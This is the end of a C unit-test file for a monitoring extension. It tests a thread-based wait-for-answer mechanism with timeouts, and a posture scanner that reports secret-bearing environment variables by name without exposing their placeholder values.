	th_rmtree(dir);
}
END_TEST

/* --- the invocation rhythm ---------------------------------------------- */

static struct ext_rhythm rh;

static void *answer_later(void *arg)
{
	usleep(50 * 1000);
	ext_rhythm_answered(&rh, arg);
	return NULL;
}

static void *interrupt_later(void *arg)
{
	usleep(50 * 1000);
	ext_rhythm_interrupt(&rh);
	return arg;
}

START_TEST(rhythm_waits_for_the_answer)
{
	pthread_t t;
	ck_assert_int_eq(ext_rhythm_init(&rh), 0);
	/* An answer that came before the wait counts. */
	ext_rhythm_answered(&rh, "early");
	ck_assert_int_eq(ext_rhythm_wait(&rh, "early", vg_mono_ns()), 0);
	/* The wait ends when the answer arrives, long before its bound. */
	pthread_create(&t, NULL, answer_later, "late");
	ck_assert_int_eq(ext_rhythm_wait(&rh, "late", vg_mono_ns() + 30ull * 1000000000u), 0);
	pthread_join(t, NULL);
	/* No answer: the bound ends it. */
	ck_assert_int_eq(ext_rhythm_wait(&rh, "never", vg_mono_ns() + 20 * 1000000u), -ETIMEDOUT);
	/* Only the last EXT_RHYTHM_KEEP answers are remembered. */
	for (int i = 0; i < EXT_RHYTHM_KEEP; i++) {
		char id[32];
		snprintf(id, sizeof(id), "r-%d", i);
		ext_rhythm_answered(&rh, id);
	}
	ck_assert_int_eq(ext_rhythm_wait(&rh, "early", vg_mono_ns()), -ETIMEDOUT);
	ck_assert_int_eq(ext_rhythm_wait(&rh, "r-0", vg_mono_ns()), 0);
	/* A runtime connection closed: the wait ends without an answer. */
	pthread_create(&t, NULL, interrupt_later, NULL);
	ck_assert_int_eq(ext_rhythm_wait(&rh, "crashed", vg_mono_ns() + 30ull * 1000000000u),
	                 -ECANCELED);
	pthread_join(t, NULL);
	/* A close between two waits (the runtime crashed before the INVOKE
	 * reached us) ends the next wait at once, and only that one. */
	ext_rhythm_interrupt(&rh);
	ck_assert_int_eq(ext_rhythm_wait(&rh, "crashed-early", vg_mono_ns() + 30ull * 1000000000u),
	                 -ECANCELED);
	ck_assert_int_eq(ext_rhythm_wait(&rh, "after", vg_mono_ns() + 20 * 1000000u), -ETIMEDOUT);
	ext_rhythm_fini(&rh);
}
END_TEST

/* --- posture ---------------------------------------------------------------- */

struct posture_seen {
	unsigned n;
	char names[512];
	char ids[8][33];
	bool leaked;
};

static const char *const secret_values[] = {
    "hunter2-Secr3t!",
    "postgres://app:Sup3rS3cret@db.internal:5432/app",
    "AKIAQWERTYUIOPASDFGH",
};

static bool has_secret(const char *s)
{
	for (size_t i = 0; s && i < sizeof(secret_values) / sizeof(secret_values[0]); i++)
		if (strstr(s, secret_values[i]) || strstr(s, "Sup3rS3cret"))
			return true;
	return false;
}

static void catch_posture(void *ctx, const struct tel_alert *a)
{
	struct posture_seen *p = ctx;
	ck_assert_str_eq(a->kind, "posture");
	ck_assert_str_eq(a->category, "secret_in_env");
	p->leaked |= has_secret(a->summary) || has_secret(a->rule) || has_secret(a->excerpt) ||
	             has_secret(a->path);
	for (unsigned i = 0; i < a->n_attrs; i++) {
		p->leaked |= has_secret(a->attrs[i].value);
		if (!strcmp(a->attrs[i].key, "vigil.env.name")) {
			strcat(p->names, a->attrs[i].value);
			strcat(p->names, " ");
		}
	}
	if (p->n < 8)
		tel_alert_id(a, p->ids[p->n]);
	p->n++;
}

START_TEST(posture_names_each_secret_variable_never_its_value)
{
	char pw[64], url[96], key[64];
	snprintf(pw, sizeof(pw), "DB_PASSWORD=%s", secret_values[0]);
	snprintf(url, sizeof(url), "DATABASE_URL=%s", secret_values[1]);
	snprintf(key, sizeof(key), "PARTNER_KEY_ID=%s", secret_values[2]);
	char *env[] = {
	    "PATH=/usr/bin:/bin",
	    pw,
	    "LOG_LEVEL=debug",
	    url,
	    "AWS_SECRET_ACCESS_KEY=wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY", /* the role's */
	    key,
	    "PASSWORD=",
	    "=odd",
	    "NOEQUALS",
	    NULL,
	};
	struct posture_seen p = {0};
	struct tel_sink sink = {catch_posture, &p};
	ck_assert_uint_eq(ext_posture_scan_env(env, &sink), 3);
	ck_assert_uint_eq(p.n, 3);
	ck_assert_str_eq(p.names, "DB_PASSWORD DATABASE_URL PARTNER_KEY_ID ");
	ck_assert(!p.leaked);
	/* One alert per variable: distinct ids. */
	ck_assert_str_ne(p.ids[0], p.ids[1]);
	ck_assert_str_ne(p.ids[1], p.ids[2]);
	/* An environment without secrets raises nothing. */
	char *clean[] = {"PATH=/bin", "TZ=UTC", NULL};
	ck_assert_uint_eq(ext_posture_scan_env(clean, &sink), 0);
}
END_TEST

static Suite *suite(void)
{
	Suite *s = suite_create("extension");
	TCase *t = tcase_create("config");
	tcase_add_test(t, config_defaults);
	tcase_add_test(t, config_accepts_valid_values);
	tcase_add_loop_test(t, config_rejects_invalid_values, 0, sizeof(bad) / sizeof(bad[0]));
	tcase_add_test(t, config_markdown_lists_every_variable);
	tcase_add_test(t, readme_table_matches_the_code);
	tcase_add_test(t, inspector_monitor_and_block);
	tcase_add_test(t, rhythm_waits_for_the_answer);
	tcase_add_test(t, posture_names_each_secret_variable_never_its_value);
	tcase_add_test(t, inspector_rejects_invalid_policy_with_file_and_line);
	tcase_add_test(t, inspector_paranoia_level);
	suite_add_tcase(s, t);

	t = tcase_create("process");
	tcase_add_checked_fixture(t, proc_setup, proc_teardown);
	tcase_set_timeout(t, 90);
	tcase_add_test(t, lifecycle_register_subscribe_proxy_shutdown);
	tcase_add_test(t, upstream_500_and_hang_through_vigil);
	tcase_add_test(t, invalid_configuration_reported_through_init_error);
	tcase_add_loop_test(t, telemetry_not_supported_or_refused_is_not_fatal, 0, 2);
	tcase_add_test(t, managed_instances_subscribe_with_the_newest_schema);
	tcase_add_test(t, busy_proxy_port_bypasses_but_never_breaks);
	tcase_add_test(t, probe_subcommand);
	tcase_add_test(t, offline_subcommands);
	suite_add_tcase(s, t);
	return s;
}

int main(void)
{
	SRunner *sr = srunner_create(suite());
	srunner_run_all(sr, CK_NORMAL);
	int failed = srunner_ntests_failed(sr);
	srunner_free(sr);
	return failed ? EXIT_FAILURE : EXIT_SUCCESS;
}
